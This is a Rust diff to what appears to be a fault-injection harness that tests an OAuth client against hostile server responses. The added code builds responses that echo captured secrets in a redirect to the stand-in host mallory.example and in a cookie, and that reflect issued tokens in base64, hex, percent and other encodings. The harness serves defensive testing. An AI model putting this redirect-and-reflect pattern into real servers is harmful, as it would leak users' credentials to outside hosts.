@@ -2,10 +2,12 @@
 
 use serde_json::{Value, json};
 
-use crate::encoding::{base64_standard, basic};
+use crate::encoding::{base64_standard, base64url, basic};
 use crate::flow::callback::HOSTILE_TEXT;
 use crate::gzip;
-use crate::twist::Fault;
+use crate::members::Members;
+use crate::record::{Record, SecretKind};
+use crate::twist::{Fault, Form};
 use crate::wire::{Body, Request, Response};
 
 const MANY: usize = 100_000;
@@ -13,10 +15,11 @@ const MEGABYTE: usize = 1024 * 1024;
 /// What the bomb inflates to.
 const BOMB: u32 = 64 * 1024 * 1024;
 
-/// Answers with the fault. `honest` is called where the request is still to be carried out.
+/// Answers with the fault. `honest` is called where the request is still to be carried out; `record` has the secrets so far.
 pub(crate) fn perform(
     fault: &Fault,
     request: &Request,
+    record: &Record,
     honest: impl FnOnce() -> Response,
 ) -> Response {
     match fault {
@@ -85,6 +88,14 @@ pub(crate) fn perform(
         Fault::EchoInHeaders => {
             let response = honest();
             let secrets = secrets_of(request, &response);
+            let all: Vec<String> = secrets
+                .iter()
+                .map(|(_, value)| value.chars().filter(char::is_ascii_graphic).collect())
+                .collect();
+            let all = all.join(",");
+            let response = response
+                .header("Location", &format!("http://mallory.example/?{all}"))
+                .header("Set-Cookie", &format!("echo={all}"));
             secrets
                 .iter()
                 .enumerate()
@@ -104,6 +115,58 @@ pub(crate) fn perform(
                 &format!("cannot use {}", values.join(" ")),
             )
         }
+        Fault::Member(name, value) => with_member(honest(), name, value),
+        Fault::Reflect { member, kind, form } => {
+            let response = honest();
+            let secret = latest(record, *kind);
+            with_member(
+                response,
+                member,
+                &json!(written(&secret, *form)).to_string(),
+            )
+        }
+        Fault::Refusal { error, description } => Response::oauth_error(400, error, description),
+        Fault::HeadLine(line) => {
+            let mut response = honest();
+            response.further_lines.push(line.clone());
+            response
+        }
+        Fault::Challenge(challenge) => Response::empty(401).header("WWW-Authenticate", challenge),
+    }
+}
+
+/// The same answer with this member, in the place of one of the same name. The value need not be JSON that any library would write.
+fn with_member(mut response: Response, name: &str, value: &str) -> Response {
+    let mut members = Members::new();
+    if let Ok(Value::Object(honest)) = serde_json::from_slice(response.bytes()) {
+        for (name, value) in honest {
+            members.set(&name, value);
+        }
+    }
+    members.set_raw(name, value);
+    response.body = Body::Whole(members.render().into_bytes());
+    response
+}
+
+/// The secret of this kind that was issued or received last; empty if there was none.
+fn latest(record: &Record, kind: SecretKind) -> String {
+    let secrets = record.secrets();
+    let found = secrets.into_iter().rev().find(|secret| secret.kind == kind);
+    found.map(|secret| secret.value).unwrap_or_default()
+}
+
+/// A secret in this form.
+fn written(secret: &str, form: Form) -> String {
+    let bytes = |write: fn(u8) -> String| secret.bytes().map(write).collect();
+    match form {
+        Form::Plain => secret.to_owned(),
+        Form::Percent => bytes(|byte| format!("%{byte:02X}")),
+        Form::Base64 => base64_standard(secret),
+        Form::Base64Url => base64url(secret),
+        Form::Hex => bytes(|byte| format!("{byte:02x}")),
+        Form::JsonEscaped => bytes(|byte| format!("\\u{byte:04x}")),
+        Form::Within => format!("see {secret} for more"),
+        Form::First(count) => secret.chars().take(count).collect(),
     }
 }
 
